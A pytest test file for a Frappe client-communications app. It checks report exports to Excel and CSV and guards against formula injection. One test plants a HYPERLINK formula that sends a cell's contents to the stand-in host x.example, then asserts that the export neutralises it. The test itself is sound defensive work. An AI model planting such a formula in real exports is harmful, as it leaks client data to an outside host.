"""Every report of the app can be exported, also where rows have no value in a column (R-2)."""

import csv
import json
from io import BytesIO, StringIO

import frappe
import openpyxl
import pytest
from frappe.desk import query_report, reportview

pytestmark = pytest.mark.clause("R-2")

REPORTS = (
	"Channel Deviations",
	"Contacts to Confirm",
	"Data Map",
	"Disclosure Register",
	"Interaction Ageing",
	"Late Logs",
	"Owed Today",
	"Preferences to Ask For",
	"Response Compliance",
	"Review Results",
	"Team Board",
	"Training Status",
	"Unlogged Interactions",
	"Wording Findings",
)


def test_they_are_all_tried():
	modules = frappe.get_all("Module Def", {"app_name": "client_comms"}, pluck="name")
	assert set(frappe.get_all("Report", {"module": ("in", modules)}, pluck="name")) == set(REPORTS)


@pytest.mark.parametrize("file_format", ["Excel", "CSV"])
@pytest.mark.parametrize("report", REPORTS)
def test_it_becomes_a_file(report, file_format, log):
	log("Initial Inquiry")
	log("Service Update")  # nothing is owed
	period = {"from_date": "2026-01-01", "to_date": "2026-12-31"}
	frappe.local.form_dict = frappe._dict(
		report_name=report,
		file_format_type=file_format,
		filters=json.dumps(period),
		visible_idx="[]",
		include_indentation=0,
	)
	query_report.export_query()
	assert frappe.response["type"] == "binary" and frappe.response["filecontent"]


FORMULA = '=HYPERLINK("http://x.example/?"&B2,"Open")'


@pytest.mark.parametrize("file_format", ["Excel", "CSV"])
@pytest.mark.parametrize("surface", ["report", "list"])
def test_no_text_of_a_client_becomes_a_formula(surface, file_format, log):
	doc = log("Initial Inquiry")
	doc.db_set("subject", FORMULA)
	asked = {"file_format_type": file_format, "csv_delimiter": ";", "csv_quoting": 2}
	if surface == "report":
		asked |= {"report_name": "Team Board", "filters": "{}", "visible_idx": "[]", "include_indentation": 0}
		export = query_report.export_query
	else:
		fields = json.dumps(["`tabClient Interaction`.`name`", "`tabClient Interaction`.`subject`"])
		asked |= {"doctype": "Client Interaction", "fields": fields, "filters": "[]", "view": "Report"}
		asked |= {"title": "Client Interaction"}
		export = reportview.export_query
	wrapped = frappe.override_whitelisted_method(f"{export.__module__}.{export.__name__}")
	frappe.local.form_dict = frappe._dict(asked)
	frappe.get_attr(wrapped)()
	content = frappe.response["filecontent"]
	if file_format == "CSV":
		rows = list(csv.reader(StringIO(content.decode()), delimiter=";"))
		cells = [cell for row in rows for cell in row]
	else:
		sheet = openpyxl.load_workbook(BytesIO(content)).active
		assert "f" not in {cell.data_type for row in sheet for cell in row}
		cells = [str(cell.value) for row in sheet for cell in row]
	(found,) = [cell for cell in cells if "HYPERLINK" in cell]
	assert found.startswith("'=HYPERLINK" if file_format == "CSV" else "=HYPERLINK")


@pytest.mark.parametrize(
	("doctype", "print_format"),
	[("Feedback Review", "Feedback Review"), ("Scorecard Snapshot", "Clause Scorecard")],
)
def test_who_prints_what_is_stored_as_figures_gets_them(doctype, print_format):
	"""They are stored as text for programs, which Frappe's own print leaves out."""
	assert frappe.get_meta(doctype).default_print_format == print_format
